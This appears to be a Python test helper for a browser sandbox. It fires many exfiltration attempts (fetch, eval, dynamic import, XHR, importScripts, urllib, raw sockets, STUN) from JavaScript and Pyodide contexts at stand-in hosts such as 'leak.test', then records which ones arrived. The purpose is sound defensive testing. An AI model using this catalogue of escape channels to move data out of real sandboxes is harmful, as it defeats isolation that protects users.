"""Tries everything that could send a picture away, in any context, and says what arrived."""

from __future__ import annotations

import itertools
import json
import socket
import threading
from collections.abc import Generator
from contextlib import contextmanager, suppress
from pathlib import Path

from devtools import DevTools, TargetGoneError
from site_proxy import Site
from waiting import until

SCRIPT = (Path(__file__).parent / "leak_attempts.js").read_text()
PYTHON = """
import asyncio, socket, urllib.request
import js
import pyodide_js
from pyodide import http
socket.setdefaulttimeout(1)
def ways(to):
    yield lambda: js.fetch(to + 'py-js-fetch')
    yield lambda: js.eval(f"fetch('{to}py-js-eval')")
    yield lambda: js.eval(f"import('{to}py-import', {{with: {{type: 'json'}}}})")
    yield lambda: js.Function(f"return import('{to}py-function', {{with: {{type: 'json'}}}})")()
    yield lambda: pyodide_js.runPython(f"import js; js.fetch('{to}py-inner')")
    yield lambda: http.open_url(to + 'py-open-url')
    yield lambda: http._pyfetch.fetch(to + 'py-fetch-module')
    yield lambda: urllib.request.urlopen(to + 'py-urllib')
    yield lambda: socket.create_connection(('leak.test', 80))
    yield lambda: js.importScripts(to + 'py-import-scripts')
    yield lambda: js.XMLHttpRequest.new().open('GET', to + 'py-xhr', False)
    yield lambda: pyodide_js.FS.createLazyFile('/tmp', 'lazy', to + 'py-lazy', True, False)
    yield lambda: js.Object.getPrototypeOf(js.navigator).storageBuckets
tried = 0
for way in ways(TO):
    tried += 1
    try:
        way()
    except BaseException:
        pass
async def fetched():
    try:
        await http.pyfetch(TO + 'py-pyfetch')
    except BaseException:
        pass
asyncio.ensure_future(fetched())
tried
"""
PYTHON_HERE = "Performance.python"
"""Where a build that is to be tried keeps its Pyodide: on a name that the seal leaves."""
OWN_IMPORT = "Performance.import = (address, options) => import(address, options);"
"""How each of its workers keeps its own `import()` there."""
_numbers = itertools.count()


@contextmanager
def udp_ear() -> Generator[tuple[str, list[bytes]]]:
    """Hear UDP at a port of this machine; gives its address and what has arrived."""
    heard: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
        ear.bind(("127.0.0.1", 0))

        def listen() -> None:
            while True:
                try:
                    heard.append(ear.recv(2048))
                except OSError:
                    return

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{ear.getsockname()[1]}", heard


def attempts(to: str, stun: str = "") -> str:
    """Give the code that tries it all, as an expression that gives a promise."""
    call = f"tryToLeak({json.dumps(to)}, {json.dumps(stun)})"
    return f"await (async () => {{ {SCRIPT}; return {call} }})()"


def leaks_of(
    devtools: DevTools, site: Site, target: str, wanted: frozenset[str] = frozenset()
) -> set[str]:
    """Names of the ways by which something left a context, tried in JavaScript.

    Those that are `wanted` are waited for, where the browser has them. An attempt that gets out may
    end its worker or hold it for ever, so no answer is awaited of it; where none does, all have
    been tried.
    """
    host = f"leak{next(_numbers)}.test"
    tried: list[str] = []
    with udp_ear() as (stun, heard):

        def found() -> set[str]:
            return arrived(site, host) | ({"stun"} if heard else set[str]())

        with suppress(TargetGoneError):
            code = attempts(f"http://{host}/", stun).removeprefix("await ")
            tried = devtools.evaluate(target, f"setTimeout(() => {code}); []" if wanted else code)
        had = wanted - devtools.never_leaks
        until(lambda: found() >= had, f"what gets out: {sorted(had)}")
    assert found() or len(tried) > 15
    return found()


def leaks_of_python(devtools: DevTools, site: Site, target: str) -> set[str]:
    """Names of the ways by which something left a worker, tried from its Python."""
    host = f"leak{next(_numbers)}.test"
    code = PYTHON.replace("TO", repr(f"http://{host}/"))
    assert devtools.evaluate(target, f"{PYTHON_HERE}.runPython({json.dumps(code)})") > 5
    return arrived(site, host)


def arrived(site: Site, host: str) -> set[str]:
    """Names of the ways by which a host of the small internet was reached."""
    asked = [request for request in site.asked() if request.host == host]
    return {request.url.rsplit("/", 1)[-1] or request.method for request in asked}
